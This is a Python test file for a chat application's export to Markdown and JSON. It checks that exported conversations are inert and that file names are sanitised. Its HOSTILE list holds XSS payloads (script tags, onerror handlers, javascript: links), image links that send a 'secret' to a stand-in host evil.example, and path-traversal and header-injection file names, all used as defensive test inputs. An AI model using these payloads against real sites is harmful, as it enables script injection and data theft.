"""An exported conversation is complete, reads as it was typed, and is inert wherever it is opened."""

import json

import pytest
from markdown_it import MarkdownIt

from chat.exporting import as_json, as_markdown, filename
from chat.models import Conversation

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/",
    "`<b>` and <script>alert(1)</script>",
    "- a\n\n      <script>alert(1)</script>\n\n  <script>alert(2)</script>",
    "> <script>\n> alert(1)",
    "```\nopen <script>",
    "~~~\n</div>\n~~~\n<div onclick=alert(1)>",
    "``` <script>\n<img src=x>\n```\n<!-- --><img src=x onerror=y>",
    "<a href='https://evil.example'\nonclick=alert(1)>x</a>",
    "\\<img src=x>\\\\<img src=x>",
]
LENIENT = MarkdownIt("gfm-like", {"html": True, "linkify": False})
LENIENT.validateLink = lambda url: True


@pytest.fixture
def said(alice):
    """A function that makes a conversation of these texts, a person first."""

    def make(*texts, title="Talk"):
        here = Conversation.make(alice, title)
        parent = None
        for place, text in enumerate(texts):
            role = ("user", "assistant")[place % 2]
            parent = here.messages.create(
                role=role, status="complete", text=text, parent=parent, model="Model" * (role == "assistant")
            )
        here.head = parent
        here.save()
        return here

    return make


def dangers(markdown):
    """What a program that allows everything would run or load of it."""

    def walk(tokens):
        for token in tokens:
            if token.type in ("html_block", "html_inline", "image"):
                yield token.content
            if token.type == "link_open" and not token.attrs["href"].startswith(("https:", "http:", "mailto:")):
                yield token.attrs["href"]
            yield from walk(token.children or ())

    return list(walk(LENIENT.parse(markdown)))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_hostile_is_inert_as_message_as_reply_and_as_title(said, text):
    assert dangers(text) or "```" in text or "\\" in text
    markdown = as_markdown(said(text, text, title=text[:200]))
    assert dangers(markdown) == []


@pytest.mark.parametrize(
    "reply",
    [
        "Use `List<int>` and\n\n```html\n<img src=x>\n```\n",
        "a < b > c, 1 <2",
        "[docs](https://example.org/) *here*\n\n| a |\n|---|\n| b |",
    ],
)
def test_a_harmless_reply_is_exported_as_it_was_written(said, reply):
    assert reply in as_markdown(said("Hello", reply))


def test_only_what_is_hostile_changes(said):
    exported = as_markdown(said("Hello", "```\n<b>\n```\n*a* <script> b"))
    assert "```\n<b>\n```\n*a* &lt;script> b" in exported


@pytest.mark.parametrize(
    "typed", ["    indent\n\n\ttab snake_case *.py $ $", "```\ncode\n```` x", "# no heading\n- [ ] x"]
)
def test_what_was_typed_stands_as_typed(said, typed):
    [fence] = [token for token in LENIENT.parse(as_markdown(said(typed))) if token.type == "fence"]
    assert fence.content == typed + "\n"


@pytest.mark.parametrize("text", [">" * 5000, "[" * 10_000, "- " * 3000, "<" * 20_000, "*a" * 8000])
def test_what_takes_long_to_read_becomes_plain_text_in_a_moment(said, text):
    assert text in as_markdown(said("Hello", text)).replace("&lt;", "<")


def test_a_reply_that_did_not_end_well_says_so(said):
    here = said("Hello", "So far")
    here.messages.filter(role="assistant").update(status="failed", error="It *broke*.")
    assert r"*(failed: It \*broke\*.)*" in as_markdown(here)


def test_json_has_every_branch_and_every_summary(said):
    here = said("one", "first", "two", "second")
    question = here.messages.get(text="two")
    here.messages.create(role="assistant", status="stopped", text="other", parent=question)
    here.summaries.create(covers_until=here.messages.get(text="first"), text="About one.", author="model")
    whole = json.loads(as_json(here))
    assert (whole["format"], whole["version"]) == ("chat-conversation", 1)
    assert whole["conversation"]["head"] == here.head_id
    assert [message["text"] for message in whole["messages"]] == ["one", "first", "two", "second", "other"]
    assert [message["text"] for message in whole["messages"] if message["parent"] == question.pk] == ["second", "other"]
    assert whole["summaries"][0]["text"] == "About one."
    assert "token_ids" not in json.dumps(whole)


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("", "conversation.md"),
        ("Cats & dogs", "Cats & dogs.md"),
        ("../../etc/passwd", "etc passwd.md"),
        ("a/b\\c:d*e?f\"g<h>i|j", "a b c d e f g h i j.md"),
        ("x\r\nSet-Cookie: a=b", "xSet-Cookie a=b.md"),
        ("\u202egpj.exe\u200b", "gpj.exe.md"),
        ("CON", "conversation CON.md"),
        ("...", "conversation.md"),
        ("Größe 大きさ", "Größe 大きさ.md"),
        ("%2e%2e%2f", "2e 2e 2f.md"),
        ("x" * 200, "x" * 80 + ".md"),
    ],
)  # fmt: skip
def test_a_file_name_is_one_that_every_system_takes(title, expected):
    assert filename(title, "md") == expected
